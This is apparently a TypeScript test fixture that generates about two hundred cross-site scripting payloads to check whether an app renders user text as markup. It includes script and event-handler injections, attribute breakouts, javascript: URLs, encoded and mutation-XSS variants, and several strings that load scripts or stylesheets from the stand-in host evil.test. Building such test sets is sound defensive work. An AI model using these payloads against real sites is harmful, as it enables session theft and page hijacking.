/** Two hundred texts that would run a script, load a resource or create an element if treated as markup. */

/** Called by each text; xss-watch.ts reports the call. */
const CALL = 'xss()'
/** The attribute that each text would create. */
const MARK = 'data-xss'

/** Short enough for a nickname, and visually distinct. */
export const XSS_NAMES: readonly string[] = [
  `<b ${MARK}>bold`,
  `<svg onload=${CALL}>`,
  `"onclick=${CALL} a="`,
  'javascript:xss()//',
  `'><i ${MARK}>it`,
  `</title><u ${MARK}`,
  '<a href=//evil.test>',
  '<img src=/xss.png>',
  '{{constructor.name}}',
  '\\u003cxss-tag\\u003e',
  '<!-- no comment',
  '&lt;em&gt;fine',
]

const TAGS = [
  'img',
  'svg',
  'iframe',
  'body',
  'input',
  'video',
  'details',
  'object',
  'embed',
  'marquee',
  'math',
  'audio',
]
const EVENTS = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onpointerover', 'onanimationstart']
const elements = TAGS.flatMap((tag) =>
  EVENTS.map((event) => `<${tag} src=/xss.png ${event}=${CALL} autofocus open ${MARK}>`),
)

const scripts = [
  `<script ${MARK}>${CALL}</script>`,
  `<ScRiPt ${MARK}>${CALL}</sCrIpT>`,
  `<scr<script>ipt ${MARK}>${CALL}</scr</script>ipt>`,
  `<script ${MARK} src=//evil.test/xss.js></script>`,
  `<script ${MARK} src=data:text/javascript,${CALL}></script>`,
  `<script/${MARK}/type=module>${CALL}</script>`,
  `<script ${MARK}>${CALL}//`,
  `<svg><script ${MARK}>${CALL}</script></svg>`,
  `<svg><script ${MARK} href=//evil.test/xss.js />`,
  `<!--><script ${MARK}>${CALL}</script>-->`,
  `<![CDATA[><script ${MARK}>${CALL}</script>]]>`,
]

const ENDINGS = ['">', "'>", '-->', ']]>', '</textarea>', '</title>', '</style>', '</script>', '</noscript>', '`>']
const PAYLOADS = [`<img src=/xss.png onerror=${CALL} ${MARK}>`, `<svg/onload=${CALL} ${MARK}>`]
const breakouts = ENDINGS.flatMap((ending) => PAYLOADS.map((payload) => ending + payload))

const QUOTES = ['"', "'", '`', '']
const attributes = QUOTES.flatMap((quote) =>
  ['onclick', 'onpointerover', 'onfocus', 'style'].map((name) => `${quote} ${name}=${quote}${CALL}${quote} ${MARK} a=`),
)

const SCHEMES = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  'vbscript:',
  'data:text/html,',
  '//evil.test/',
  '\\\\evil.test\\',
]
const addresses = SCHEMES.flatMap((scheme) => [
  `${scheme}${CALL}`,
  `[a link](${scheme}${CALL})`,
  `<a href="${scheme}${CALL}" ${MARK}>`,
  `<form action="${scheme}${CALL}" ${MARK}><button>`,
])

const PLAIN = `<img src=/xss.png onerror=${CALL} ${MARK}>`
const codes = [...PLAIN].map((letter) => letter.charCodeAt(0))
const encodings = [
  codes.map((code) => `&#${code};`).join(''),
  codes.map((code) => `&#x${code.toString(16)}`).join(''),
  encodeURIComponent(PLAIN),
  encodeURIComponent(encodeURIComponent(PLAIN)),
  PLAIN.replaceAll('<', '\\u003c').replaceAll('>', '\\u003e'),
  PLAIN.replaceAll('<', '\\x3c').replaceAll('>', '\\x3e'),
  PLAIN.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'),
  PLAIN.replaceAll('<', '＜').replaceAll('>', '＞'),
  PLAIN.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  Buffer.from(PLAIN).toString('base64'),
  PLAIN.replace('img', 'im\u200bg'),
  `\u202e${PLAIN}`,
  `\ufeff${PLAIN}`,
]

const templates = [
  `{{constructor.constructor('${CALL}')()}}`,
  `{{$on.constructor('${CALL}')()}}`,
  '$'.concat(`{${CALL}}`),
  `<%= ${CALL} %>`,
  `#{${CALL}}`,
  `[[${CALL}]]`,
  `<p v-html="${CALL}" ${MARK}>`,
  `<p ng-init="${CALL}" ${MARK}>`,
  `@import '//evil.test/${CALL}';`,
  `";${CALL};//`,
  `';${CALL};'`,
  `\\";${CALL};//`,
]

/** Parsers rewrite these into something else (mutation XSS). */
const mutations = [
  `<math><mtext><table><mglyph><style><img src=/xss.png onerror=${CALL} ${MARK}>`,
  `<svg><style><img src=/xss.png onerror=${CALL} ${MARK}></style></svg>`,
  `<noscript><p title="</noscript><img src=/xss.png onerror=${CALL} ${MARK}>">`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style>${PLAIN}">`,
  `<template><s ${MARK}></template><img src=/xss.png onerror=${CALL} ${MARK}>`,
  `<svg><a xlink:href="javascript:${CALL}" ${MARK}><text y=1em>a`,
  `<svg><animate onbegin=${CALL} attributeName=x ${MARK}>`,
  `<svg><use href="data:image/svg+xml,<svg onload=${CALL}>" ${MARK}>`,
  `<iframe srcdoc="<script>parent.${CALL}</script>" ${MARK}>`,
  `<link rel=stylesheet href=//evil.test/xss.css ${MARK}>`,
  `<style ${MARK}>@import '//evil.test/xss.css';</style>`,
  `<meta http-equiv=refresh content="0;url=javascript:${CALL}" ${MARK}>`,
  `<base href=//evil.test ${MARK}>`,
  `<p style="background:url(//evil.test/xss.png)" ${MARK}>`,
  `<input type=image src=/xss.png onerror=${CALL} ${MARK}>`,
  `<button popovertarget=x onclick=${CALL} ${MARK}>a</button>`,
]

const all = [elements, scripts, breakouts, attributes, addresses, encodings, templates, mutations].flat()

export const XSS_TEXTS: readonly string[] = [...XSS_NAMES, ...all]
